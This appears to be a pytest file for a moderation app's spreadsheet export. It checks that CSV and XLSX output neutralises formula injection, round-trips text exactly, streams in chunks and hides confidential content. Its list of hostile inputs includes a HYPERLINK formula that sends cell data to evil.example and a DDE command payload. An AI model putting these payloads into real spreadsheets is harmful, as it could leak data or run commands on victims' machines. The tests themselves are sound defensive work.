@@ -1,0 +1,124 @@
+"""Spreadsheet exports: streamed, formula-safe, lossless, and flagging confidential records."""
+
+import csv
+import io
+import json
+import re
+
+import openpyxl
+import pytest
+
+from moderation import archival, exports, selectors
+from moderation.exports import Column
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example/?"&A1,"klicka")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "<script>alert('x')</script><b>fet</b>",
+    "abc\u202edcba\u202c \u2066isolate\u2069",
+    "zero\u200bwidth\u200d\ufeffjoiner",
+    "emoji 😀👩‍👩‍👧 🇸🇪",
+    "Ä" * 100_000,
+    "_x0041_ is not an A",
+    'line\nbreak; semi, comma "quote"',
+    "control \x01\x0b\x1f chars",
+]
+COLUMNS = [Column("id", "id"), Column("text", "text"), Column("confidential", "confidential")]
+
+
+def _rows():
+    return ({"id": i, "text": text, "confidential": i % 3 == 0} for i, text in enumerate(HOSTILE, start=1))
+
+
+def _unescape_ooxml(value: str) -> str:
+    # OOXML stores characters XML cannot hold as _xHHHH_ (and a literal "_x" as _x005F_x);
+    # Excel decodes them when reading, openpyxl leaves them.
+    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)
+
+
+@pytest.mark.parametrize("delimiter", [",", ";"])
+def test_csv_round_trip_is_inert_and_lossless(delimiter):
+    """Every hostile text comes back exactly, with formula-like cells behind an apostrophe."""
+    data = b"".join(exports.csv_chunks(COLUMNS, _rows(), delimiter=delimiter))
+    assert data.startswith(b"\xef\xbb\xbf")
+    csv.field_size_limit(1_000_000)
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+    assert rows[0] == ["id", "text", "confidential"]
+    for row, original in zip(rows[1:], HOSTILE, strict=True):
+        if original.startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert row[1] == "'" + original
+        else:
+            assert row[1] == original
+        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert [r[2] for r in rows[1:4]] == ["false", "false", "true"]
+
+
+def test_xlsx_round_trip_is_inert_and_lossless(tmp_path):
+    """Every hostile text comes back exactly, as a text cell; formula-like ones carry Excel's quote prefix."""
+    handle = exports.xlsx_tempfile(COLUMNS, _rows())
+    workbook = openpyxl.load_workbook(handle)
+    sheet = workbook.active
+    assert [c.value for c in sheet[1]] == ["part", "id", "text", "confidential"]
+    texts: dict[int, str] = {}
+    for row in sheet.iter_rows(min_row=2):
+        part, ident, text, confidential = row
+        assert text.data_type in ("s", "n") or text.value is None
+        assert not str(text.value or "").startswith("=") or text.quotePrefix
+        assert text.data_type != "f", "no cell is a formula"
+        if part.value in (None, ""):
+            texts[ident.value] = _unescape_ooxml(text.value or "")
+            if text.value and text.value.startswith(("=", "+", "-", "@", "\t")):
+                assert text.style_id and sheet.parent._cell_styles[text.style_id].quotePrefix
+        else:  # a continuation of a value longer than Excel's 32,767-character cell limit
+            texts[ident.value] += _unescape_ooxml(text.value or "")
+        if ident.value % 3 == 0:
+            assert confidential.value is True
+            assert confidential.fill.fgColor.rgb.endswith("FFD7D7"), "confidential cells are highlighted"
+    assert [texts[i] for i in range(1, len(HOSTILE) + 1)] == HOSTILE
+
+
+def test_jsonl_round_trip_is_lossless():
+    data = b"".join(exports.jsonl_chunks(COLUMNS, _rows()))
+    lines = data.decode("ascii").splitlines()
+    assert [json.loads(line)["text"] for line in lines] == HOSTILE
+    assert json.loads(lines[2])["confidential"] is True
+
+
+def test_csv_is_streamed_in_chunks():
+    """A generator of rows is consumed as it goes: chunks come out before the rows run out."""
+    produced = []
+
+    def rows():
+        for i in range(exports.CHUNK_ROWS * 3):
+            produced.append(i)
+            yield {"id": i, "text": "x", "confidential": False}
+
+    chunks = exports.csv_chunks(COLUMNS, rows())
+    next(chunks)
+    assert len(produced) <= exports.CHUNK_ROWS + 1
+
+
+def test_export_rows_flag_confidential_and_hide_content_from_web_team(world, log_removal):
+    log_removal(text="Vanlig kommentar.")
+    log_removal(text="Hemligt innehåll.", category="h")
+    qs = archival.records_for_export(user=world.users["web_team"], filters=selectors.Filters())
+    rows = {r["category"]: r for r in archival.export_rows(qs, reveal_confidential=False)}
+    assert rows["h"]["confidential"] is True and "Hemligt" not in (rows["h"]["text"] or "")
+    assert rows["a"]["confidential"] is False and rows["a"]["text"] == "Vanlig kommentar."
+    rows = {r["category"]: r for r in archival.export_rows(qs, reveal_confidential=True)}
+    assert rows["h"]["text"] == "Hemligt innehåll."
+
+
+def test_records_for_export_refuses_other_roles(world):
+    from django.core.exceptions import PermissionDenied
+
+    for role in ("employee", "writer", "manager", "admin"):
+        with pytest.raises(PermissionDenied):
+            archival.records_for_export(user=world.users[role], filters=selectors.Filters())
